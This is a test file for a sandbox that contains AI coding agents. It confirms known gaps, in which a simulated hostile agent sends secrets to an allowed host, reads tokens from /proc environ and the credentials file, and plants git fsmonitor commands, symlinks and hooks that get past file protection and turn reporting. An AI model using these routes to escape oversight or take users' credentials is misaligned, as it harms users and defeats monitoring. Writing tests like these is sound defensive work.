/**
 * What is not closed: `docs/security.md` names each of these. A test that fails here shows that something is closed
 * now, and that the page has to be changed.
 */
import { once } from 'node:events';
import { chmodSync, existsSync, linkSync, readFileSync, renameSync, statfsSync } from 'node:fs';
import { readFile, writeFile } from 'node:fs/promises';
import { createServer as createHttpServer } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { availableParallelism, release } from 'node:os';
import { join, resolve } from 'node:path';
import { TLSSocket } from 'node:tls';
import { authorityOf, identityFor } from '../../src/network/keys/authority';
import { commonHosts } from '../../src/network/egress/listed-hosts';
import { Editor } from '../engine/editor';
import { Place } from '../engine/place';
import { nameAuthor, newRepository } from '../engine/repository';
import { Cai, folder, newWorkspace, ownFile } from '../engine/support';
import { newFolder } from '../support/temp-folder';
import { Canary } from './canary';
import { handsFolder, receivesFolder } from './handed-folder';
import { agent, hostileConfig, Scene, sceneFor } from './hostile-agent';

const counted = readFileSync(resolve(__dirname, '../../fixtures/attacks/counted.py'), 'utf8');
const token = 'TOKEN-OF-THE-USER';
/** A service of this machine alone. */
const [host, address] = ['service.example', '127.0.0.9'];

/** A host without a rule. */
const asked = 'asked.example';

const cai = new Cai(
  `${hostileConfig()}[env]\nimport = ["USERS_TOKEN"]\n[container]\nextra_hosts = ["${asked}:127.0.0.1"]\n`,
);
cai.env.USERS_TOKEN = token;
const sharing = new Cai(`${hostileConfig()}[agent]\ndata = "shared"\n`);
const scene = sceneFor({ cai });
let neighbour: Place;
/** Two whose agents share their data. */
const [one, other] = [new Place(sharing), new Place(sharing)];

beforeAll(async () => (neighbour = await new Place(cai).opened()));

/** A thing that is open, as a sentence; `isSo` shows it. */
function open(sentence: string, isSo: () => Promise<boolean>): void {
  test(sentence, async () => expect(await isSo()).toBe(true));
}

/** What a command reads in a place at a port of an address. */
async function readFrom(place: Place, address: string, port: number): Promise<string> {
  const script =
    'import socket, sys; print(socket.create_connection((sys.argv[1], int(sys.argv[2])), 5).recv(100))';
  return (await place.run(['python3', '-c', script, address, String(port)])).stdout.toString();
}

const namesOfOwn = ['uploads.example:127.0.0.1', 'front.example:127.0.0.1'];
const allowing = new Place();

/** A place whose user allows a server of this machine, by a name that the server need not have. */
async function placeAllowing(name: string, server: Server): Promise<{ place: Place; at: string }> {
  await once(server.listen(0, '127.0.0.1').unref(), 'listening');
  const at = `${name}:${(server.address() as AddressInfo).port}`;
  allowing.cai.configure(`allow = ["${at}"]\n[container]\nextra_hosts = ${JSON.stringify(namesOfOwn)}\n`);
  return { place: await allowing.opened(), at };
}

/** Is handed a folder, and writes in it when it is told to. */
const takesFolder = `${receivesFolder}
print("has it", flush=True)
input()
os.write(os.open(".git/config", os.O_WRONLY | os.O_APPEND, dir_fd=folder), b"# evil")`;

/** What the user does in a folder, or a prompt of the shell that shows the branch. */
async function gitStatus(folder: string): Promise<void> {
  const git = cai.startProgram('git', ['-C', folder, 'status']);
  git.child.stdin.end();
  await git.succeeds();
}

const gatewayScript = "import re; print('.'.join(str(b) for b in reversed(bytes.fromhex([l.split()[2] for l in open('/proc/net/route') if l.split()[1] == '00000000'][0]))))"; // prettier-ignore

open(
  'With network.egress = "open", a container reaches the internet, and services of your machine and other containers that listen on all addresses.',
  async () => {
    const openCai = new Cai('egress = "open"\n');
    const [place, other] = [await new Place(openCai).opened(), await new Place(openCai).opened()];
    const routes = (await place.prints(['cat', '/proc/net/route'])).split('\n');
    const server = createServer((socket) => socket.end('SERVICE')).listen(0, '0.0.0.0');
    await once(server, 'listening');
    const gateway = await place.prints(['python3', '-c', gatewayScript]);
    const ofMachine = await readFrom(place, gateway, (server.address() as AddressInfo).port);
    server.close();
    const serve = "import socket; s = socket.create_server(('0.0.0.0', 9983)); print('begun', flush=True)\nwhile True: s.accept()[0].sendall(b'SERVICE')"; // prettier-ignore
    const serving = other.start(['python3', '-c', serve]);
    await serving.says('begun');
    const ofOther = await readFrom(place, await other.inspect('{{.NetworkSettings.IPAddress}}'), 9983);
    serving.child.kill('SIGKILL');
    const leadsOut = routes.some((line) => line.split('\t')[1] === '00000000');
    return leadsOut && [ofMachine, ofOther].every((said) => said.includes('SERVICE'));
  },
);

open('An allowed host can be sent data, such as github.com by anybody with an account.', async () => {
  let sent = '';
  const server = createHttpServer((request, answer) => {
    request.on('data', (chunk: Buffer) => (sent += chunk.toString())).on('end', () => answer.end());
  });
  const { place, at } = await placeAllowing('uploads.example', server);
  await place.prints(['curl', '-sS', '-d', 'SECRET', `http://${at}/`]);
  server.close();
  return sent === 'SECRET' && commonHosts.some(({ rule }) => rule === 'github.com:443');
});

open(
  'An editor that allows by itself, such as acpx with --approve-all, opens every public host',
  async () => {
    const server = createHttpServer((_, answer) => answer.end('PUBLIC')).listen(0, '127.0.0.1');
    await once(server, 'listening');
    // Nobody is there who would answer otherwise.
    const said = await scene.sh(`curl -sS http://${asked}:${(server.address() as AddressInfo).port}/`);
    server.close();
    return said === 'PUBLIC';
  },
);

open(
  'Inside TLS nothing is looked at, unless a key is put in: others behind an allowed host’s front end may be reached.',
  async () => {
    const identity = await identityFor('hidden.example', await authorityOf(newFolder()));
    const server = createHttpsServer(identity, ({ socket }, answer) => {
      answer.end(socket instanceof TLSSocket && socket.servername);
    });
    const { place, at } = await placeAllowing('front.example', server);
    const { port } = server.address() as AddressInfo;
    const behind = ['--connect-to', `hidden.example:${port}:${at}`, `https://hidden.example:${port}/`];
    const said = await place.prints(['curl', '-sSk', ...behind]);
    server.close();
    return said === 'hidden.example';
  },
);

open(
  'With agent.data = "shared", what an agent leaves in its data, such as hooks, is there for agents of other workspaces.',
  async () => {
    await one.prints(['sh', '-c', 'mkdir -p ~/.claude && echo evil > ~/.claude/left']);
    return (await other.run(['cat', '/home/agent/.claude/left'])).stdout.includes('evil');
  },
);

open(
  'Then an agent can hand its workspace to another’s, which can write protected files once the first container has ended.',
  async () => {
    const taker = other.start(['python3', '-c', takesFolder]);
    await taker.says('listens');
    await one.run(['python3', '-c', handsFolder, one.workspace]);
    await taker.says('has it');
    const config = join(one.workspace, '.git/config');
    const isProtected = (await one.run(['sh', '-c', 'echo evil >> .git/config'])).status !== 0;
    await sharing.run(['stop', '--force', '-w', one.workspace]);
    taker.child.stdin.end('go\n');
    await taker.succeeds();
    return isProtected && readFileSync(config, 'utf8').includes('evil');
  },
);

open('While it runs, an agent can use keys and sign-ins kept outside.', async () => {
  const world = await authorityOf(newFolder());
  const server = createHttpsServer(await identityFor(host, world), ({ headers }, answer) =>
    answer.end(headers.authorization === `Bearer ${token}` ? 'done' : 'refused'),
  );
  await once(server.listen(443, address).unref(), 'listening');
  const file = join(folder, 'service.pem');
  ownFile(file, world.cert);
  const before = process.env.CAI_TEST_CA_FILE;
  process.env.CAI_TEST_CA_FILE = file;
  const user = new Cai(
    `[container]\nextra_hosts = ["${host}:${address}"]\n[[credentials]]\nfor = "${host}"\nfrom = "env:USERS_TOKEN"\n`,
  );
  process.env.CAI_TEST_CA_FILE = before;
  user.env.USERS_TOKEN = token;
  const said = await new Place(user).prints(['curl', '-sS', `https://${host}/`]);
  server.close();
  return said === 'done';
});

open('Claims of a sign-in, such as an e-mail address, are visible inside.', async () => {
  const user = new Cai();
  const parts = [{ alg: 'none' }, { email: 'user@example.com' }];
  const access = [...parts.map((part) => Buffer.from(JSON.stringify(part)).toString('base64url')), 's'].join('.'); // prettier-ignore
  const signIn = { id: '0123456789ab', generation: 1, tokens: { access, refresh: 'r' }, answer: {} };
  const kept = `state/containai/credentials/sign-ins/${agent}/all-workspaces.json`;
  ownFile(join(user.home, kept), JSON.stringify(signIn));
  const said = await new Place(user).prints(['cat', '/home/agent/.claude/.credentials.json']);
  return said.includes(access.split('.')[1]!);
});

open('Every process in the container can read variables that you import.', async () => {
  const reader = neighbour.start(['sh', '-c', 'echo begun; exec sleep 100']);
  await reader.says('begun');
  const { stdout } = await neighbour.run(['sh', '-c', 'cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n"']);
  reader.child.kill('SIGKILL');
  return stdout.includes(token);
});

open('Sessions of one workspace share a container, without a wall.', async () => {
  const victim = neighbour.start(['sh', '-c', 'echo begun; exec sleep 4321']);
  await victim.says('begun');
  await neighbour.run(['pkill', '-f', 'sleep 432[1]']);
  return (await victim.ends()).status !== 0;
});

open('An agent writes source, build scripts and packages that you run later.', async () => {
  await scene.sh('echo \'{"scripts":{"test":"evil"}}\' > package.json');
  return readFileSync(join(scene.workspace, 'package.json'), 'utf8').includes('evil');
});

open(
  'An agent can create files that your programs would run where there were none: .vscode, .git/commondir.',
  async () => {
    const canary = new Canary(cai);
    await scene.sh(
      `cp -r .git evil && git config -f evil/config core.fsmonitor '${canary.sh}; false' && echo ../evil > .git/commondir`,
    );
    await gitStatus(scene.workspace);
    await scene.sh('rm -r evil .git/commondir');
    return canary.sung !== undefined;
  },
);

/** As in a turn; one that ends right after another has its look in the next. */
const toldOf = async (script: string): Promise<string> =>
  (await scene.toldOf(script)) + (await scene.toldOf('sleep 0.1'));

open('Links that an agent makes in a git folder lead your git to other files.', async () => {
  const profile = join(cai.home, '.profile');
  ownFile(profile, 'of the user\n');
  const told = await toldOf(`ln -sf ${profile} .git/COMMIT_EDITMSG`);
  const author = ['-c', 'user.name=a', '-c', 'user.email=a@b'];
  const commit = ['-C', scene.workspace, ...author, 'commit', '--quiet', '--allow-empty', '-m', 'evil'];
  const git = cai.startProgram('git', commit);
  git.child.stdin.end();
  await git.succeeds();
  return told.includes('`.git/COMMIT_EDITMSG`') && readFileSync(profile, 'utf8') === 'evil\n';
});

open(
  'Below the root, such as in packages/app/.vscode, such files are neither protected nor reported, unless a session is opened there or `[protect] paths` names them.',
  async () => {
    const tasks = join(scene.workspace, 'packages/app/.vscode/tasks.json');
    ownFile(tasks, '{}');
    const told = await toldOf('echo evil > packages/app/.vscode/tasks.json');
    return told === '' && readFileSync(tasks, 'utf8') === 'evil\n';
  },
);

open('What an agent creates between two turns, or removes before a turn ends, is not reported.', async () => {
  const waits = 'read go < go; mkdir .husky && echo evil > .husky/pre-commit; echo made > made';
  const first = await toldOf(`mkfifo go made && (setsid sh -c '${waits}' > /dev/null 2>&1 &)`);
  await writeFile(join(scene.workspace, 'go'), 'go\n');
  await readFile(join(scene.workspace, 'made'));
  const wasThere = existsSync(join(scene.workspace, '.husky/pre-commit'));
  const second = await scene.toldOf('rm -r .husky; mkdir .zed; echo evil > .zed/tasks.json; rm -r .zed');
  return wasThere && first + second === '';
});

open('A repository that an agent creates below the workspace has its own configuration.', async () => {
  const canary = new Canary(cai);
  await scene.sh(`git init -q below && git -C below config core.fsmonitor '${canary.sh}; false'`);
  await gitStatus(join(scene.workspace, 'below'));
  return canary.sung !== undefined;
});

open('An agent in a worktree can write the index and HEAD of your repository.', async () => {
  const user = new Cai(`${hostileConfig()}[worktrees]\nper_session = true\n`);
  nameAuthor(user);
  const repository = newRepository(user, 'shop-open');
  const inWorktree = await Scene.open({ cai: user, workspace: repository });
  await inWorktree.sh(`echo evil >${repository}/.git/index; git rev-parse HEAD >${repository}/.git/HEAD`);
  await inWorktree.close();
  const read = (name: string): string => readFileSync(join(repository, '.git', name), 'utf8');
  return read('index') === 'evil\n' && /^[\da-f]{40}\n$/.test(read('HEAD'));
});

open(
  'A protected file that you replace while an agent runs, as git and many editors do, is unprotected until the container is replaced.',
  async () => {
    const config = join(scene.workspace, '.git/config');
    ownFile(`${config}.lock`, readFileSync(config));
    renameSync(`${config}.lock`, config);
    return (await scene.tries('echo >> .git/config')).status === 0;
  },
);

open('A file of the workspace with a second name (hard link) outside is changed there, too.', async () => {
  const outside = join(cai.home, 'private/linked');
  ownFile(outside, 'as it was');
  linkSync(outside, join(scene.workspace, 'linked'));
  await scene.sh('echo evil > linked');
  return readFileSync(outside, 'utf8') === 'evil\n';
});

open('Without container.disk, an agent can fill the disk.', async () => {
  const blocks = Number(await scene.sh('head -c 256M /dev/zero > flood && rm flood && stat -f -c %b .'));
  const variables = await neighbour.inspect('{{.Config.Env}}');
  return blocks === statfsSync(scene.workspace).blocks && /[ []CAI_DISK_BYTES=0[ \]]/.test(variables);
});

open('Without container.cpus, it can keep all processors busy.', async () => {
  const count = Number(await neighbour.prints(['nproc']));
  return count === availableParallelism() && (await neighbour.inspect('{{.HostConfig.NanoCpus}}')) === '0';
});

open('It can use half of your inotify instances, watches and pipes.', async () => {
  const half = Number(readFileSync('/proc/sys/fs/inotify/max_user_instances', 'utf8')) / 2;
  const take = `import ctypes, time; held = [ctypes.CDLL(None).inotify_init1(0) for _ in range(${half - 4})]; print(min(held) > 0, flush=True); time.sleep(1000)`; // prettier-ignore
  const holder = neighbour.start(['python3', '-c', take]);
  await holder.says('True');
  const other = neighbour.start(['python3', '-c', counted, 'named pipes']);
  // The keeper has counted.
  await other.ends();
  const isThere = holder.child.exitCode === null;
  holder.child.kill('SIGKILL');
  await holder.ends();
  return isThere;
});

open('It can lock files of read-only mounts: your programs wait.', async () => {
  const mounted = join(folder, 'locked');
  const file = join(mounted, 'database');
  ownFile(file, '');
  const user = new Cai(`[[mounts]]\npath = "${mounted}"\nread_only = true\n`);
  const take = `import fcntl, time; file = open('${file}'); fcntl.flock(file, fcntl.LOCK_EX); print('held', flush=True); time.sleep(1000)`; // prettier-ignore
  const holder = new Place(user).start(['python3', '-c', take]);
  await holder.says('held');
  const own = user.startProgram('flock', ['--nonblock', '--conflict-exit-code', '9', file, 'true']);
  own.child.stdin.end();
  const { status } = await own.ends();
  holder.child.kill('SIGKILL');
  await holder.ends();
  return status === 9;
});

open(
  'Programs of your machine that listen at sockets in the workspace or a mount can be reached; each session tells of them.',
  async () => {
    const workspace = newWorkspace();
    const socket = join(workspace, 'tool.sock');
    const server = createServer((connection) => connection.end('SERVICE')).listen(socket);
    await once(server, 'listening');
    chmodSync(socket, 0o666);
    const other = await scene.another(workspace);
    await other.editor.hears(other.session, 'They listen in the workspace: `tool.sock`');
    const connects = "import socket; s = socket.socket(socket.AF_UNIX); s.connect('tool.sock'); print(s.recv(9).decode())"; // prettier-ignore
    const said = await other.sh(`python3 -c "${connects}"`);
    server.close();
    return said === 'SERVICE\n';
  },
);

open(
  'All containers share the kernel of the engine’s machine.',
  async () => (await scene.sh('uname -r')).trim() === release(),
);

open(
  'What a command prints reaches your terminal with every control sequence.',
  async () => (await neighbour.prints(['printf', '\\033]0;title\\007'])) === '\u001b]0;title\u0007',
);

open('With CAI_ACP_DIRECT_SPAWN=1 an agent is a process of yours like any other.', async () => {
  const secret = join(cai.home, 'private/secret');
  ownFile(secret, 'SECRET');
  const editor = await Editor.open(cai, agent, { env: { CAI_ACP_DIRECT_SPAWN: '1' } });
  const session = await editor.newSession(scene.workspace);
  await editor.prompt(session, JSON.stringify([{ sh: `cat ${secret}` }]));
  editor.proxy.child.stdin.end();
  await editor.proxy.ends();
  return editor.said(session).includes('SECRET');
});
